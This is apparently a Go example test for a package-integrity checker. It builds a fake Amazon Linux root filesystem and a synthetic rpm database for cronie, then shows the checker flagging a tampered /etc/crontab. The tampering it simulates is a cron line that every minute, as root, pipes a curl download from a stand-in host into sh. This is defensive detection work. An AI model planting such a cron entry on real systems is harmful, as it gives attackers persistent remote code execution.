package rpmdb_test

import (
	"context"
	"crypto"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"

	"github.com/abusekit/abusekit/internal/rootfs"
	"github.com/abusekit/abusekit/internal/rpmdb"
	"github.com/abusekit/abusekit/internal/rpmdb/rpmdbtest"
)

// An Amazon Linux 2023 style root where cronie's /etc/crontab got an
// extra line and /usr/sbin/crond is stock: the rpm database tells which.
func ExampleRead() {
	dir, err := os.MkdirTemp("", "root")
	if err != nil {
		panic(err)
	}
	defer os.RemoveAll(dir)
	stock := map[string]string{
		"/etc/crontab":    "SHELL=/bin/bash\n",
		"/usr/sbin/crond": "\x7fELF...",
	}
	pkg := rpmdb.Package{Name: "cronie", Version: "1.5.7", Release: "1.amzn2023", Arch: "x86_64"}
	for _, p := range []string{"/etc/crontab", "/usr/sbin/crond"} {
		sum := sha256.Sum256([]byte(stock[p]))
		f := rpmdb.File{Path: p, Digest: hex.EncodeToString(sum[:]), Algo: crypto.SHA256, Mode: 0o100644}
		if p == "/etc/crontab" {
			f.Flags = rpmdb.FlagConfig | rpmdb.FlagNoReplace
		}
		pkg.Files = append(pkg.Files, f)
		os.MkdirAll(filepath.Join(dir, filepath.Dir(p)), 0o755)
		os.WriteFile(filepath.Join(dir, p), []byte(stock[p]), 0o644)
	}
	os.MkdirAll(filepath.Join(dir, "var/lib/rpm"), 0o755)
	if err := rpmdbtest.WriteSQLite(filepath.Join(dir, "var/lib/rpm/rpmdb.sqlite"), [][]byte{rpmdbtest.Header(pkg)}); err != nil {
		panic(err)
	}
	// The malware's addition.
	os.WriteFile(filepath.Join(dir, "etc/crontab"), []byte("SHELL=/bin/bash\n* * * * * root curl -s http://x/y | sh\n"), 0o644)

	r, err := rootfs.Open(dir)
	if err != nil {
		panic(err)
	}
	defer r.Close()
	pkgs, err := rpmdb.Read(context.Background(), r, rpmdb.Limits{})
	if err != nil {
		panic(err)
	}
	for _, p := range pkgs {
		for _, f := range p.Files {
			fh, err := r.Open(f.Path)
			if err != nil {
				panic(err)
			}
			ok, err := f.Verify(fh)
			fh.Close()
			if err != nil {
				panic(err)
			}
			fmt.Printf("%s %s-%s: %s stock=%v config=%v\n", p.Name, p.Version, p.Release, f.Path, ok, f.Config())
		}
	}
	// Output:
	// cronie 1.5.7-1.amzn2023: /etc/crontab stock=false config=true
	// cronie 1.5.7-1.amzn2023: /usr/sbin/crond stock=true config=false
}
